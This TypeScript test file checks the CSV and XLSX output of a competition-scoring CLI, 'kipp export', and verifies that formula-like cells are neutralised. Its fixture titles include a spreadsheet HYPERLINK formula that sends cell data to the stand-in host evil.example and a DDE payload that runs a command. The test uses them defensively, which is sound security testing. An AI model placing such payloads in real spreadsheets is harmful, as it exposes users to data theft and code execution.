/**
 * `kipp export` end to end: the files are read back — the CSV with csv-parse, the XLSX with
 * exceljs and as raw XML — and checked against values computed by hand from the fixture.
 *
 * fixtures/export/entries.csv: nine entries with hostile titles and inline scores, each entry's
 * five scores equal (or 9,8,7,6,5), so total = 100 · (mean − 1) / 9 is easy to check by hand.
 * fixtures/export/rubric.yaml: equal weights, pass mark 45, Top 5, one winner per category.
 */
import { createHash } from 'node:crypto';
import { copyFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadCompetition } from '../../src/io/competition.js';
import { exportTable } from '../../src/report/export/table.js';
import { scoreCompetition } from '../../src/scoring/score.js';
import { formatWithCsvStringify } from '../report/csv-stringify-export.js';
import { unzip } from '../report/unzip.js';
import { EXAMPLE_INPUTS, kippIn, ROOT, type Run } from './run.js';
import { tempFolder } from '../tmp.js';

const FX = 'fixtures/export';
const HOSTILE_INPUTS = [`${FX}/entries.csv`, '--rubric', `${FX}/rubric.yaml`];
const EX = 'fixtures/example';

function tempDir(): string {
  return tempFolder('kipp-export-');
}

/** The fixture's own titles and pass-through cells, read independently of kipp. */
const FIXTURE: Record<string, string>[] = parse(readFileSync(`${FX}/entries.csv`), { columns: true, bom: true });
const TITLE = new Map(FIXTURE.map((r) => [r.id!, r.judul!]));

// By hand: mean of the five scores m, total = 100 (m − 1) / 9, rounded to 6 decimals.
const BY_RANK = [
  { id: 'KIPP-X-001', total: 100, shown: '100.00', categoryRank: 1 }, // m = 10
  { id: 'KIPP-X-002', total: 90, shown: '90.00', categoryRank: 1 }, // m = 9.1
  { id: 'KIPP-X-004', total: 80, shown: '80.00', categoryRank: 1 }, // m = 8.2
  { id: 'KIPP-X-006', total: 70, shown: '70.00', categoryRank: 2 }, // m = 7.3
  { id: 'KIPP-X-003', total: 66.666667, shown: '66.67', categoryRank: 1 }, // m = 7 (9, 8, 7, 6, 5)
  { id: 'KIPP-X-008', total: 60, shown: '60.00', categoryRank: 2 }, // m = 6.4
  { id: 'KIPP-X-005', total: 50, shown: '50.00', categoryRank: 2 }, // m = 5.5
  { id: 'KIPP-X-007', total: 40, shown: '40.00', categoryRank: 2 }, // m = 4.6, below the pass mark 45
  { id: 'KIPP-X-009', total: 30, shown: '30.00', categoryRank: 3 }, // m = 3.7, below the pass mark 45
];

/** OWASP: a text cell starting with one of these gets a leading apostrophe in CSV. */
function guarded(text: string): string {
  return /^[=+\-@\t\r＝＋－＠]/.test(text) ? `'${text}` : text;
}

function sha256(path: string): string {
  return createHash('sha256').update(readFileSync(path)).digest('hex');
}

async function readWorkbook(path: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  return workbook;
}

/** Row values of a sheet from row 2 on, as plain arrays (exceljs rows are 1-based). */
function sheetRows(sheet: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  sheet.eachRow((row, n) => {
    if (n > 1) rows.push(Array.from({ length: sheet.columnCount }, (_, i) => row.getCell(i + 1).value ?? null));
  });
  return rows;
}

describe('CSV, default comma', () => {
  const dir = tempDir();
  const out = join(dir, 'semua.csv');
  let run: Run;
  let bytes: Buffer;
  let text: string;
  let records: string[][];
  beforeAll(async () => {
    run = await kippIn(['export', ...HOSTILE_INPUTS, '--output', out]);
    bytes = readFileSync(out);
    text = bytes.toString('utf8');
    records = parse(bytes, { bom: true });
  });

  it('exits 0, writes nothing to stdout and says what it wrote on stderr', () => {
    expect(run.status).toBe(0);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain('unknown-field'); // kontak: kept as a pass-through column
    expect(run.stderr).toContain('semua.csv');
  });

  it('starts with a UTF-8 byte-order mark and ends lines with CRLF', () => {
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.split('\r\n')).toHaveLength(records.length + 1); // + the empty string after the last CRLF
    // the one bare LF is the line break inside KIPP-X-009's quoted title
    expect(text.match(/(?<!\r)\n/g)).toHaveLength(1);
    expect(text).toContain('"Pasar Rakyat\nBebas Pungli"');
  });

  it('has the documented columns in order, pass-through columns last', () => {
    expect(records[0]).toEqual([
      'Rank',
      'Category rank',
      'ID',
      'Title',
      'Agency',
      'Agency type',
      'Region',
      'Category',
      'Group',
      'Total',
      'Novelty',
      'Effectiveness',
      'Benefit',
      'Replicability',
      'Sustainability',
      'Judges',
      'Passed',
      'Reasons',
      'Shortlists',
      'Implemented since',
      'kontak',
      'comment',
    ]);
  });

  it('lists every entry in rank order with 2-decimal totals and category ranks', () => {
    const body = records.slice(1);
    expect(body.map((r) => r[2])).toEqual(BY_RANK.map((e) => e.id));
    expect(body.map((r) => r[0])).toEqual(['1', '2', '3', '4', '5', '6', '7', '8', '9']);
    expect(body.map((r) => r[1])).toEqual(BY_RANK.map((e) => String(e.categoryRank)));
    expect(body.map((r) => r[9])).toEqual(BY_RANK.map((e) => e.shown));
    const sipandu = body.find((r) => r[2] === 'KIPP-X-003')!;
    expect(sipandu.slice(10, 15)).toEqual(['9.00', '8.00', '7.00', '6.00', '5.00']);
  });

  it('guards every formula-like text cell with an apostrophe and keeps the rest exactly', () => {
    for (const r of records.slice(1)) expect(r[3]).toBe(guarded(TITLE.get(r[2]!)!));
    const byId = new Map(records.slice(1).map((r) => [r[2], r]));
    expect(byId.get('KIPP-X-001')![3]).toBe(`'=HYPERLINK("http://evil.example/kipp?d="&A1,"Lihat video")`);
    expect(byId.get('KIPP-X-005')![3]).toBe(`'＝SUM(A1:A9) Inovasi huruf lebar`); // full-width equals sign
    expect(byId.get('KIPP-X-006')![3]).toBe('Kampung KB "Sehati"; Dusun Ngaglik, Sleman');
    expect(byId.get('KIPP-X-009')![3]).toBe('Pasar Rakyat\nBebas Pungli');
    // pass-through cells too: the documented +62 trade-off
    expect(byId.get('KIPP-X-001')![20]).toBe("'+62 22 4230393");
    expect(byId.get('KIPP-X-005')![20]).toBe("'＋62 21 5201590");
    expect(byId.get('KIPP-X-003')![20]).toBe("'-");
    expect(byId.get('KIPP-X-003')![21]).toBe("'=cmd|' /C calc'!A0");
    // no cell of the file starts a formula
    for (const r of records) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  it('shows passed, reasons, labels and shortlists in words', () => {
    const byId = new Map(records.slice(1).map((r) => [r[2], r]));
    expect(byId.get('KIPP-X-001')!.slice(4, 9)).toEqual([
      'Pemerintah Kota Bandung',
      'City',
      'Jawa Barat',
      'Effective, efficient and high-performing governance',
      '',
    ]);
    expect(byId.get('KIPP-X-001')!.slice(16, 19)).toEqual(['yes', '', 'Top 5, Category winners']);
    expect(byId.get('KIPP-X-007')!.slice(16, 19)).toEqual(['no', 'total', '']);
    expect(byId.get('KIPP-X-008')![5]).toBe('Agency'); // lembaga
  });
});

describe('CSV for Indonesian-locale Excel: --delimiter ";" --lang id', () => {
  const dir = tempDir();
  const out = join(dir, 'top-5.csv');
  let run: Run;
  let records: string[][];
  beforeAll(async () => {
    run = await kippIn([
      'export',
      ...HOSTILE_INPUTS,
      '--shortlist',
      'top-5',
      '--delimiter',
      ';',
      '--lang',
      'id',
      '-o',
      out,
    ]);
    records = parse(readFileSync(out), { bom: true, delimiter: ';' });
  });

  it('writes the shortlist only, in rank order, with decimal commas', () => {
    expect(run.status).toBe(0);
    expect(records.slice(1).map((r) => r[2])).toEqual([
      'KIPP-X-001',
      'KIPP-X-002',
      'KIPP-X-004',
      'KIPP-X-006',
      'KIPP-X-003',
    ]);
    expect(records.slice(1).map((r) => r[9])).toEqual(['100,00', '90,00', '80,00', '70,00', '66,67']);
    expect(records[5]!.slice(10, 15)).toEqual(['9,00', '8,00', '7,00', '6,00', '5,00']);
  });

  it('uses Indonesian headers and labels', () => {
    expect(records[0]!.slice(0, 10)).toEqual([
      'Peringkat',
      'Peringkat kategori',
      'Kode',
      'Judul',
      'Instansi',
      'Jenis instansi',
      'Wilayah',
      'Kategori',
      'Kelompok',
      'Nilai akhir',
    ]);
    expect(records[1]!.slice(5, 8)).toEqual([
      'Kota',
      'Jawa Barat',
      'Tata kelola pelayanan publik yang efektif, efisien dan berkinerja tinggi',
    ]);
    expect(records[1]!.slice(16, 19)).toEqual(['ya', '', 'Top 5, Juara kategori']);
  });

  it('finds a shortlist by its label too, and a per-category one category by category', async () => {
    const byLabel = join(dir, 'juara.csv');
    expect((await kippIn(['export', ...HOSTILE_INPUTS, '--shortlist', 'Category winners', '-o', byLabel])).status).toBe(
      0,
    );
    const rows: string[][] = parse(readFileSync(byLabel), { bom: true });
    // rubric order: governance, transparency, collaboration, inclusive
    expect(rows.slice(1).map((r) => r[2])).toEqual(['KIPP-X-001', 'KIPP-X-004', 'KIPP-X-003', 'KIPP-X-002']);
  });
});

describe('CSV written row by row', () => {
  it.each([
    [',', 'en'],
    [';', 'id'],
  ] as const)(
    'with --delimiter %j --lang %s: the bytes of the whole table through csv-stringify',
    async (delimiter, lang) => {
      const out = join(tempDir(), 'streamed.csv');
      const run = await kippIn([
        'export',
        ...HOSTILE_INPUTS,
        '--output',
        out,
        '--delimiter',
        delimiter,
        '--lang',
        lang,
        '--as-of',
        '2026-11-22',
      ]);
      expect(run.status).toBe(0);
      const competition = loadCompetition({ entries: [`${FX}/entries.csv`], scores: [], rubric: `${FX}/rubric.yaml` });
      const result = scoreCompetition(competition, { asOf: '2026-11-22' });
      const expected = formatWithCsvStringify(exportTable(result, result.entries, lang), delimiter);
      expect(readFileSync(out).equals(Buffer.from(expected, 'utf8'))).toBe(true);
    },
  );
});

describe('XLSX', () => {
  const dir = tempDir();
  const out = join(dir, 'semua.xlsx');
  let run: Run;
  let workbook: ExcelJS.Workbook;
  let sheet: ExcelJS.Worksheet;
  let rows: ReturnType<typeof sheetRows>;
  beforeAll(async () => {
    run = await kippIn(['export', ...HOSTILE_INPUTS, '--output', out]);
    workbook = await readWorkbook(out);
    sheet = workbook.worksheets[0]!;
    rows = sheetRows(sheet);
  });

  it('has a data sheet, then the summary', () => {
    expect(run.status).toBe(0);
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['All entries', 'Summary']);
  });

  it('keeps every hostile title as its exact text, stored as text', () => {
    for (let r = 2; r <= 10; r++) {
      const id = sheet.getCell(r, 3).value as string;
      const title = sheet.getCell(r, 4);
      expect(title.type).toBe(ExcelJS.ValueType.String);
      expect(title.value).toBe(TITLE.get(id));
    }
    expect(rows.map((r) => r[3])).toContain('=HYPERLINK("http://evil.example/kipp?d="&A1,"Lihat video")');
    expect(rows.map((r) => r[3])).toContain('_x0041_ Sistem Antrean Daring');
  });

  it('holds no formula in any sheet', () => {
    const xml = unzip(readFileSync(out));
    const sheets = [...xml.keys()].filter((k) => k.startsWith('xl/worksheets/sheet'));
    expect(sheets).toHaveLength(2);
    for (const name of sheets) expect(xml.get(name)).not.toMatch(/<f[\s>/]/);
    workbook.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined())));
  });

  it('stores ranks, totals, criteria and judges as numbers, totals at 6 decimals shown with 2', () => {
    expect(rows.map((r) => r[2])).toEqual(BY_RANK.map((e) => e.id));
    expect(rows.map((r) => r[0])).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9]);
    expect(rows.map((r) => r[1])).toEqual(BY_RANK.map((e) => e.categoryRank));
    expect(rows.map((r) => r[9])).toEqual(BY_RANK.map((e) => e.total));
    expect(rows[4]!.slice(10, 16)).toEqual([9, 8, 7, 6, 5, 1]); // KIPP-X-003, one (inline) judge
    expect(sheet.getCell(2, 10).numFmt).toBe('0.00');
    expect(sheet.getCell(2, 11).numFmt).toBe('0.00');
    expect(sheet.getCell(2, 1).numFmt).toBe('0');
    expect(sheet.getCell(2, 10).type).toBe(ExcelJS.ValueType.Number);
  });

  it('keeps pass-through text as text, without the CSV apostrophe', () => {
    const byId = new Map(rows.map((r) => [r[2], r]));
    expect(byId.get('KIPP-X-001')![20]).toBe('+62 22 4230393');
    expect(byId.get('KIPP-X-003')![21]).toBe("=cmd|' /C calc'!A0");
  });

  it('has a bold, frozen, filtered header', () => {
    expect(sheet.getCell(1, 4).value).toBe('Title');
    expect(sheet.getCell(1, 4).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:V10');
  });

  it('summarises the tool version, rubric name and weights, and each input file with its sha256', () => {
    // Since #17.15 each fact sits in the Value column; an empty Details cell is no cell (null).
    const summary = sheetRows(workbook.getWorksheet('Summary')!);
    const version = (JSON.parse(readFileSync('package.json', 'utf8')) as { version: string }).version;
    expect(summary).toContainEqual(['tool', 'kipp', version, null]);
    expect(summary).toContainEqual(['rubric', 'name', 'KIPP 2018 (uji ekspor)', null]);
    expect(summary).toContainEqual(['rubric', 'sha256', sha256(`${FX}/rubric.yaml`), null]);
    for (const [label, id] of [
      ['Novelty', 'novelty'],
      ['Effectiveness', 'effectiveness'],
      ['Benefit', 'benefit'],
      ['Replicability', 'replicability'],
      ['Sustainability', 'sustainability'],
    ]) {
      expect(summary).toContainEqual(['weight', label, 20, id]);
    }
    expect(summary).toContainEqual(['threshold', 'Total', 45, 'total']);
    expect(summary).toContainEqual(['input: entries', `${FX}/entries.csv`, sha256(`${FX}/entries.csv`), 'sha256']);
  });

  it("#17.15: the summary's Value column holds every fact: numbers as numbers, the reference date as a date", () => {
    const sheet = workbook.getWorksheet('Summary')!;
    const summary = sheetRows(sheet);
    expect(summary.length).toBeGreaterThan(10);
    for (const row of summary) expect(row[2], String(row[1])).not.toBeNull();
    expect(summary).toContainEqual(['rubric', 'minimum judges', 1, null]);
    expect(summary).toContainEqual(['exported', 'All entries', 9, '9 / 9 entries']);
    const asOf = summary.findIndex((r) => r[1] === 'reference date');
    // The rubric's reference_date (fixtures/export/rubric.yaml), as a day.
    expect(summary[asOf]![2]).toEqual(new Date(Date.UTC(2018, 2, 10)));
    expect(sheet.getCell(asOf + 2, 3).numFmt).toBe('yyyy-mm-dd');
  });

  it('#17.15: ISO dates are date cells shown as yyyy-mm-dd; an empty text is no cell at all', () => {
    const column = (sheet.getRow(1).values as unknown[]).indexOf('Implemented since');
    expect(column).toBeGreaterThan(0);
    const dates = new Map(FIXTURE.map((r) => [r.id!, r.tanggal_implementasi!]));
    for (let r = 2; r <= 10; r++) {
      const id = sheet.getCell(r, 3).value as string;
      const [y, m, d] = dates.get(id)!.split('-').map(Number);
      const cell = sheet.getCell(r, column);
      expect(cell.value, id).toEqual(new Date(Date.UTC(y!, m! - 1, d)));
      expect(cell.numFmt).toBe('yyyy-mm-dd');
    }
    // Entries that passed have no reasons, and KIPP-X-002 no "catatan": no cell, not an empty string.
    const reasons = (sheet.getRow(1).values as unknown[]).indexOf('Reasons');
    const passed = rows.filter((r) => r[16] === 'yes');
    expect(passed.length).toBeGreaterThan(0);
    for (const r of passed) expect(r[reasons - 1]).toBeNull();
    const xml = unzip(readFileSync(out));
    const strings = xml.get('xl/sharedStrings.xml') ?? '';
    expect(strings).not.toMatch(/<t(?: [^>]*)?\/>|<t(?: [^>]*)?><\/t>/);
    for (const [name, text] of xml)
      if (name.startsWith('xl/worksheets/sheet')) expect(text).not.toMatch(/t="inlineStr"><is><t\/>/);
  });

  it('gives the same bytes on the next run', async () => {
    const again = join(dir, 'lagi.xlsx');
    expect((await kippIn(['export', ...HOSTILE_INPUTS, '--output', again])).status).toBe(0);
    expect(readFileSync(again).equals(readFileSync(out))).toBe(true);
  });
});

describe('XLSX with one sheet per category or per shortlist', () => {
  const dir = tempDir();
  const byCategory = join(dir, 'kategori.xlsx');
  const byShortlist = join(dir, 'daftar.xlsx');
  let runs: Run[];
  let categories: ExcelJS.Workbook;
  let shortlists: ExcelJS.Workbook;
  beforeAll(async () => {
    runs = [
      await kippIn(['export', ...HOSTILE_INPUTS, '--sheets', 'category', '--lang', 'id', '-o', byCategory]),
      await kippIn(['export', ...HOSTILE_INPUTS, '--sheets', 'shortlist', '-o', byShortlist]),
    ];
    categories = await readWorkbook(byCategory);
    shortlists = await readWorkbook(byShortlist);
  });
  const ids = (wb: ExcelJS.Workbook, name: string) => sheetRows(wb.getWorksheet(name)!).map((r) => r[2]);

  it('names category sheets after the labels (shortened to 31 characters) in rubric order', () => {
    expect(runs.map((r) => r.status)).toEqual([0, 0]);
    expect(categories.worksheets.map((w) => w.name)).toEqual([
      'Tata kelola pelayanan publik…',
      'Transparansi, akuntabilitas…',
      'Kolaborasi',
      'Pelayanan publik inklusif',
      'Ringkasan',
    ]);
    expect(ids(categories, 'Tata kelola pelayanan publik…')).toEqual(['KIPP-X-001', 'KIPP-X-006']);
    expect(ids(categories, 'Transparansi, akuntabilitas…')).toEqual(['KIPP-X-004', 'KIPP-X-008']);
    expect(ids(categories, 'Kolaborasi')).toEqual(['KIPP-X-003', 'KIPP-X-007', 'KIPP-X-009']);
    expect(ids(categories, 'Pelayanan publik inklusif')).toEqual(['KIPP-X-002', 'KIPP-X-005']);
    expect(sheetRows(categories.getWorksheet('Kolaborasi')!).map((r) => r[1])).toEqual([1, 2, 3]);
  });

  it('gives each shortlist its sheet', () => {
    expect(shortlists.worksheets.map((w) => w.name)).toEqual(['Top 5', 'Category winners', 'Summary']);
    expect(ids(shortlists, 'Top 5')).toEqual(['KIPP-X-001', 'KIPP-X-002', 'KIPP-X-004', 'KIPP-X-006', 'KIPP-X-003']);
    expect(ids(shortlists, 'Category winners')).toEqual(['KIPP-X-001', 'KIPP-X-004', 'KIPP-X-003', 'KIPP-X-002']);
  });
});

describe('the commands of docs/guide/publishing.md on the shipped example', () => {
  const dir = tempDir();
  const top99 = join(dir, 'top-99.xlsx');
  const top45 = join(dir, 'top-45.csv');
  const rubric = ['--rubric', `${EX}/rubric-top45.yaml`, '--as-of', '2026-11-22'];
  let run99: Run;
  let run45: Run;
  let json: { entries: { id: string; rank: number | null; total: number | null; shortlists: string[] }[] };
  beforeAll(async () => {
    run99 = await kippIn(['export', ...EXAMPLE_INPUTS, ...rubric, '--shortlist', 'top-99', '-o', top99]);
    run45 = await kippIn([
      'export',
      ...EXAMPLE_INPUTS,
      ...rubric,
      '--shortlist',
      'top-45',
      '--delimiter',
      ';',
      '--lang',
      'id',
      '-o',
      top45,
    ]);
    json = JSON.parse(
      (await kippIn(['score', ...EXAMPLE_INPUTS, ...rubric, '--format', 'json'])).stdout,
    ) as typeof json;
  });

  it('Top 99 holds the entries `kipp score` puts on it, in the same order and totals', async () => {
    expect(run99.status).toBe(0);
    const rows = sheetRows((await readWorkbook(top99)).worksheets[0]!);
    const expected = json.entries.filter((e) => e.shortlists.includes('top-99'));
    expect(rows.map((r) => r[2])).toEqual(expected.map((e) => e.id));
    expect(rows.map((r) => r[9])).toEqual(expected.map((e) => e.total));
  });

  it('Top 45 warns of the tie at the cut-off and keeps every tied entry', () => {
    expect(run45.status).toBe(0);
    expect(run45.stderr).toContain('cutoff-tie');
    const rows: string[][] = parse(readFileSync(top45), { bom: true, delimiter: ';' });
    const expected = json.entries.filter((e) => e.shortlists.includes('top-45'));
    expect(expected.length).toBeGreaterThan(45);
    expect(rows.slice(1).map((r) => r[2])).toEqual(expected.map((e) => e.id));
    expect(rows.at(-1)![0]).toBe(rows.at(-2)![0]); // the last two share a rank
  });
});

describe('safety and usage errors', () => {
  it('never writes over an input file (exit 2)', async () => {
    const dir = tempDir();
    const input = join(dir, 'entries.csv');
    copyFileSync(`${FX}/entries.csv`, input);
    const before = readFileSync(input);
    const run = await kippIn(['export', input, '--rubric', `${FX}/rubric.yaml`, '-o', input, '--force']);
    expect(run.status).toBe(2);
    expect(run.stderr).toContain('input');
    expect(readFileSync(input).equals(before)).toBe(true);
  });

  it('needs --force to replace an existing output', async () => {
    const dir = tempDir();
    const out = join(dir, 'top.csv');
    writeFileSync(out, 'lama');
    const refused = await kippIn(['export', ...HOSTILE_INPUTS, '-o', out]);
    expect(refused.status).toBe(2);
    expect(readFileSync(out, 'utf8')).toBe('lama');
    const forced = await kippIn(['export', ...HOSTILE_INPUTS, '-o', out, '--force']);
    expect(forced.status).toBe(0);
    expect(readFileSync(out, 'utf8')).toMatch(/^\uFEFFRank,/);
  });

  // The other combinations (--sheets with CSV, --delimiter with XLSX, …) are in the option table
  // of test/commands/export-options.test.ts; these two check the exit code end to end.
  it.each([
    [['-o', 'x.txt'], 'extension'],
    [['-o', 'x.csv', '--shortlist', 'top-45'], 'top-5, juara-kategori'],
  ])('%j is a usage error (exit 2) that writes nothing', async (args, hint) => {
    const run = await kippIn(['export', ...HOSTILE_INPUTS, ...args]);
    expect(run.status).toBe(2);
    expect(run.stderr).toContain(hint);
    expect(existsSync(join(ROOT, args[1]!))).toBe(false);
  });

  it('still writes the file when the data has errors, and exits 1', async () => {
    const dir = tempDir();
    const input = join(dir, 'entries.csv');
    writeFileSync(
      input,
      'id,title,agency,category,implemented_since,novelty,effectiveness,benefit,replicability,sustainability\nA-1,Inovasi Satu,Dinas A,tata kelola,2016-01-01,8,8,8,8,8\nA-2,Inovasi Dua,Dinas B,pariwisata,2016-01-01,9,9,9,9,9\n',
    );
    const out = join(dir, 'out.csv');
    const run = await kippIn(['export', input, '-o', out, '--as-of', '2018-03-10']);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain('unknown-category');
    const rows: string[][] = parse(readFileSync(out), { bom: true });
    expect(rows.slice(1).map((r) => [r[2], r[0], r[16], r[17]])).toEqual([
      ['A-1', '1', 'yes', ''],
      ['A-2', '', 'no', 'ineligible, unknown-category'],
    ]);
  });

  it('has --help with an example', async () => {
    const run = await kippIn(['export', '--help']);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain('kipp export entries.csv');
    expect(run.stdout).toContain('--delimiter');
  });
});

describe('a rubric with stages (KIPP 2025: desk 70, presentation 30)', () => {
  it("adds each stage's total and rank after the final total", async () => {
    const out = join(tempDir(), 'stages.csv');
    const S = 'fixtures/stages';
    const run = await kippIn([
      'export',
      `${S}/entries.csv`,
      '--scores',
      `desk=${S}/scores-desk.csv`,
      `presentation=${S}/scores-presentation.csv`,
      '--judges',
      `${S}/judges.csv`,
      '--rubric',
      'rubrics/kipp-2025.yaml',
      '--as-of',
      '2025-06-30',
      '--output',
      out,
    ]);
    expect(run.status).toBe(0);
    const rows: Record<string, string>[] = parse(readFileSync(out), { columns: true, bom: true });
    const pick = (r: Record<string, string>) => [
      r.ID,
      r.Total,
      r['Desk evaluation: Total'],
      r['Desk evaluation: Rank'],
      r['Presentation and interview: Total'],
      r['Presentation and interview: Rank'],
    ];
    // The hand-computed figures of test/cli/profiles.test.ts, at two decimals; K25-005 failed the desk mark of 85.
    expect(rows.map(pick)).toEqual([
      ['K25-001', '92.78', '90.00', '2', '99.26', '2'],
      ['K25-004', '91.44', '87.78', '4', '100.00', '1'],
      ['K25-003', '88.11', '87.78', '3', '88.89', '3'],
      ['K25-002', '87.11', '91.11', '1', '77.78', '4'],
      ['K25-005', '', '78.89', '5', '', ''],
    ]);
  });
});
